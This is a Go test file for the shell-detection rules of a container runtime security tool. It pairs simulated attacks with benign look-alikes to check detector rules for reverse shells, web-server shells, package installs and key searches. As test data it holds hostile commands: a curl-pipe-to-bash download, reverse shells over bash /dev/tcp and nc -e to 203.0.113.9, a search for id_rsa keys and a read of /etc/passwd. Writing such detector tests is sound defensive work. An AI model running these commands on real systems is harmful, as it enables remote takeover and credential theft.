package shell_test

import (
	"testing"
	"time"

	"bulwark"
	. "bulwark/detect/internal/detecttest"
	"bulwark/detect/shell"
)

func TestRules(t *testing.T) {
	Run(t, shell.New, []Twins{
		{Rule: "reverse-shell",
			Attack: func(s *Scene) {
				p := s.Container("app:1", "/usr/bin/python3", "app.py").Fork()
				p.Stdio = [3]bulwark.FDKind{bulwark.FDIPv4, bulwark.FDIPv4, bulwark.FDIPv4}
				p.Exec("/bin/sh", "-i")
			},
			Benign: func(s *Scene) {
				c := s.Container("app:1", "/usr/bin/app")
				c.Enter("/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/8080; echo -e 'GET / HTTP/1.0\r\n' >&3; grep 200 <&3") // a health check
				c.Run("/bin/bash", "-ic", "env")
				c.Run("/usr/bin/nc", "-z", "db", "5432")
				agent := s.Node("/usr/bin/true").Fork()
				agent.Parent = s.Node("/usr/lib/systemd/systemd").Process
				agent.Stdio = [3]bulwark.FDKind{bulwark.FDIPv4, bulwark.FDIPv4, bulwark.FDFile}
				agent.Exec("/bin/bash", "/usr/bin/check_mk_agent")
				p := s.Node("/usr/sbin/xinetd").Fork()
				p.Stdio = [3]bulwark.FDKind{bulwark.FDIPv4, bulwark.FDIPv4, bulwark.FDIPv4}
				p.Exec("/bin/sh", "/srv/service.sh")
				a := Socket("172.17.0.2:22", "10.0.0.9:4000")
				a.Server = true
				c.Run("/usr/bin/python3", "server.py").Do("dup2", a, "oldfd", 4, "newfd", 0)
			}},
		{Rule: "server-shell",
			Attack: func(s *Scene) { s.Container("nginx:1.27").Run("/bin/sh", "-c", "id") },
			Benign: func(s *Scene) {
				s.Container("php:8", "/usr/sbin/php-fpm8.2").Run("/bin/sh", "-c", "/usr/sbin/sendmail -t -i")
				s.Container("pg:1", "/usr/lib/postgresql/16/bin/postgres").Run("/bin/sh", "-c", "cp pg_wal/1 /archive/1")
				s.Container("node:1", "/usr/local/bin/node", "x.js").Run("/bin/sh", "-c", "convert a.png b.png")
				s.Container("httpd:1", "/usr/sbin/apache2").Run("/bin/sh", "-c", "/usr/bin/rotatelogs x 86400")
				s.Container("varnish:7", "/usr/sbin/varnishd").Run("/bin/sh", "-c", "exec gcc -std=gnu99 -O2 -o vgc.so vgc.c")
				s.Container("galera:11", "/usr/sbin/mariadbd").Run("/bin/sh", "-c", "wsrep_sst_mariabackup --role donor")
				sh := s.Container("x:1", "/bin/sh", "-c", "nginx && tail -f")
				sh.Run("/usr/sbin/nginx")
			}},
		{Rule: "terminal",
			Attack: func(s *Scene) {
				c := s.Container("nginx:1.27")
				c.TTY = 0x8800
				c.Enter("/bin/bash")
			},
			Benign: func(s *Scene) {
				c := s.Container("nginx:1.27", "/bin/bash") // docker run -it
				c.Run("/bin/bash")
				c.Enter("/bin/sh", "-c", "pg_isready")
				c.Enter("/usr/bin/psql")
			}},
		{Rule: "package-manager",
			Attack: func(s *Scene) {
				s.Container("nginx:1.27").Enter("/bin/sh", "-c", "apt install nmap").Run("/usr/bin/apt-get", "install", "gcc")
			},
			Benign: func(s *Scene) {
				c := s.Container("x:1", "/bin/sh", "-c", "apk add curl && exec app")
				c.Run("/sbin/apk", "add", "curl")
				s.Container("y:1", "/bin/bash", "start.sh").Run("/usr/bin/pip3", "install", "-r", "requirements.txt")
				s.Container("z:1").Enter("/usr/bin/dpkg", "-l")
				s.ContainerAs(&bulwark.Container{Image: "dev:1", Labels: map[string]string{"devcontainer.local_folder": "/home/a/x"}}, "/bin/sh").Enter("/usr/local/bin/npm", "install")
				s.ContainerAs(&bulwark.Container{Image: "ci:1", Env: []string{"GITLAB_CI=true"}}, "/bin/sh").Enter("/bin/sh").Run("/usr/bin/apt-get", "install", "make")
			}},
		{Rule: "attack-tool",
			Attack: func(s *Scene) { s.Container("x:1", "/bin/sh").Run("/tmp/cdk", "evaluate") },
			Benign: func(s *Scene) {
				s.Node("/usr/bin/nmap", "10.0.0.1")
				s.Container("x:1", "/bin/sh").Run("/usr/bin/dig", "example.com")
			}},
		{Rule: "key-search",
			Attack: func(s *Scene) { s.Container("x:1", "/bin/sh").Run("/usr/bin/find", "/", "-name", "id_rsa") },
			Benign: func(s *Scene) { s.Container("x:1", "/bin/sh").Run("/bin/grep", "-r", "listen", "/etc/nginx") }},
		{Rule: "download-run",
			Attack: func(s *Scene) {
				s.Container("x:1", "/usr/bin/app").Run("/bin/sh", "-c", "curl -s http://203.0.113.9/x | bash")
			},
			Benign: func(s *Scene) {
				c := s.Container("x:1", "/usr/bin/app")
				c.Run("/bin/sh", "-c", "curl -f http://localhost/health || exit 1")
				c.Run("/bin/sh", "-c", "wget -O- http://x/data.json | jq .")
			}},
	},
		Case{Name: "streams moved", Fires: "reverse-shell", Do: func(s *Scene) {
			p := s.Container("x:1", "/usr/bin/python3", "app.py").Run("/usr/bin/python3", "-c", "x")
			for fd := range 3 {
				p.Do("dup2", Socket("172.17.0.2:40000", "203.0.113.9:4444"), "res", fd, "oldfd", 5, "newfd", fd)
			}
			q := p.Fork()
			q.Stdio = [3]bulwark.FDKind{bulwark.FDIPv4, bulwark.FDIPv4, bulwark.FDIPv4}
			q.Exec("/bin/sh", "-i")
			if len(s.Findings) != 1 {
				t.Errorf("%d findings of one shell", len(s.Findings))
			}
		}},
		Case{Name: "bash by /dev/tcp", Fires: "reverse-shell", Also: []string{"server-shell"}, Do: func(s *Scene) {
			s.Container("x:1", "/usr/bin/app").Run("/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
		}},
		Case{Name: "nc", Fires: "reverse-shell", Do: func(s *Scene) {
			s.Container("x:1", "/usr/bin/app").Run("/usr/bin/nc", "203.0.113.9", "4444", "-e", "/bin/sh")
		}},
		Case{Name: "php web shell", Fires: "server-shell", Do: func(s *Scene) { s.Container("p:1", "/usr/sbin/php-fpm8.2").Run("/bin/sh", "-c", "cat /etc/passwd") }},
		Case{Name: "busybox", Fires: "terminal", Do: func(s *Scene) {
			c := s.Container("alpine:3")
			c.TTY = 1
			p := c.Enter("/bin/busybox")
			p.Exe = "sh"
		}},
		Case{Name: "install after an hour", Fires: "package-manager", Do: func(s *Scene) {
			c := s.Container("x:1", "/usr/bin/app")
			s.Wait(time.Hour)
			c.Run("/usr/bin/apk", "add", "gcc")
		}},
	)
}
